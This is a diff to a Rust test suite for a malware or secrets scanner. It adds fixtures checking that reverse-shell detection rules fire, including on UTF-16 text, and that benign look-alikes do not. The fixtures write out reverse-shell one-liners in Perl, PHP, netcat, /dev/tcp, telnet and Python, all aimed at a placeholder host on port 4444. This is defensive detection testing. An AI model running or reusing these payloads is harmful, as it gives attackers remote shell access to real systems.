@@ -105,6 +105,22 @@ fn positives() -> Vec<(&'static str, &'static str, Vec<u8>)> {
             ]),
         ),
         (
+            "yara-reverse-shell-perl",
+            "notes.txt",
+            lines(&[
+                "perl -e 'use Socket;$i=\"x.example.invalid\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));",
+                "if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");exec(\"/bin/sh -i\");};'\n",
+            ]),
+        ),
+        (
+            "yara-reverse-shell-php",
+            "notes.txt",
+            lines(&[
+                "<?php $sock=fsockopen(\"x.example.invalid\",4444);",
+                "exec(\"/bin/sh -i <&3 >&3 2>&3\"); ?>\n",
+            ]),
+        ),
+        (
             "yara-exfil-discord-webhook",
             "cfg.ini",
             lines(&[
@@ -232,6 +248,54 @@ fn every_builtin_rule_fires_on_its_fixture() {
     }
     for m in builtin().descriptions() {
         assert!(covered.contains(&m.id), "{} has no fixture", m.id);
+    }
+}
+
+#[test]
+fn reverse_shells_are_caught_in_their_usual_spellings() {
+    let h = "x.example.invalid";
+    let cases: Vec<(&str, String)> = vec![
+        ("yara-reverse-shell-netcat", format!("echo 'nc {h} 4444 -e /bin/s{}'", "h")),
+        ("yara-reverse-shell-netcat", format!("echo 'ncat {h} 4444 -e /bin/bas{}'", "h")),
+        ("yara-reverse-shell-netcat", format!("echo 'busybox nc {h} 4444 -e s{}'", "h")),
+        ("yara-reverse-shell-netcat", format!("echo 'nc -e s{} {h} 4444'", "h")),
+        ("yara-reverse-shell-netcat", format!("echo 'nc -c ba{} {h} 4444'", "sh")),
+        ("yara-reverse-shell-netcat", format!("echo 'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|s{}h -i 2>&1|nc {h} 4444 >/tmp/f'", "")),
+        ("yara-reverse-shell-netcat", format!("echo 'mknod /tmp/p p && /bin/s{}h 0</tmp/p | nc {h} 4444 1>/tmp/p'", "")),
+        ("yara-reverse-shell-netcat", format!("echo 'telnet {h} 4444 | /bin/s{}h | telnet {h} 4445'", "")),
+        ("yara-reverse-shell-dev-tcp", format!("echo 'exec 5<>/dev/t{}cp/{h}/4444; cat <&5 | while read line; do echo $line; done'", "")),
+        ("yara-reverse-shell-dev-tcp", format!("echo '0<&196;exec 196<>/dev/t{}cp/{h}/4444; sh <&196 >&196 2>&196'", "")),
+        ("yara-reverse-shell-python", format!("import socket,subprocess,os\ns=socket.socket()\ns.connect(('{h}',4444))\n[os.dup{}2(s.fileno(),f) for f in (0,1,2)]\nsubprocess.call(['echo','-i'])\nsubprocess.call(['/bin/sh','-c','echo airlock-test'])\n", "")),
+        ("yara-reverse-shell-python", format!("import socket,pty\nfrom os import dup{}2\ns=socket.socket()\ns.connect(('{h}',4444))\ndup2(s.fileno(),0)\npty.spawn(['echo','airlock-test'])\n", "")),
+        ("yara-reverse-shell-python", format!("import socket,subprocess\ns=socket.create_connection(('{h}',4444))\nsubprocess.call(['/bin/sh','-c','echo airlock-test'],stdin=s.file{}no())\n", "")),
+    ];
+    let dir = tempfile::tempdir().expect("tempdir");
+    for (i, (id, text)) in cases.iter().enumerate() {
+        let sub = dir.path().join(i.to_string());
+        std::fs::create_dir(&sub).expect("mkdir");
+        let r = scan_bytes(&sub, "notes.txt", text.as_bytes());
+        assert!(
+            yara_ids(&r).iter().any(|g| g == id),
+            "{text}: {:?}",
+            r.findings
+        );
+        assert!(
+            r.findings
+                .iter()
+                .any(|f| f.rule.id == "yara-match" && f.severity == Severity::Critical),
+            "{text}"
+        );
+        // The same text saved as UTF-16 (with a byte-order mark) is caught too.
+        let wide: Vec<u8> = [0xff, 0xfe]
+            .into_iter()
+            .chain(text.encode_utf16().flat_map(|u| u.to_le_bytes()))
+            .collect();
+        let r = scan_bytes(&sub, "wide.txt", &wide);
+        assert!(
+            yara_ids(&r).iter().any(|g| g == id),
+            "UTF-16 {text}: {:?}",
+            r.findings
+        );
     }
 }
 
@@ -378,6 +442,9 @@ fn benign_look_alikes_do_not_fire() {
         ("i.json", b"{\"pools\": [\"a\", \"b\"], \"level\": 3}\n".to_vec()),
         ("j.txt", b"169.254.169.254 is link-local; never route it.\n".to_vec()),
         ("k.txt", b"Contact: miners@example.invalid, 2 miners.\n".to_vec()),
+        ("l.sh", b"nc -z x.example.invalid 22 && echo up\nnc -l 8080 -c cat\n".to_vec()),
+        ("m.sh", b"mkfifo /tmp/q; cat /tmp/q | gzip > out.gz &\nsh build.sh\n".to_vec()),
+        ("n.py", b"import os, socket\ns = socket.socket()\ns.connect(('localhost', 80))\nos.dup2(log.fileno(), 2)\n".to_vec()),
     ];
     for (name, data) in quiet {
         let r = scan_bytes(dir.path(), name, &data);
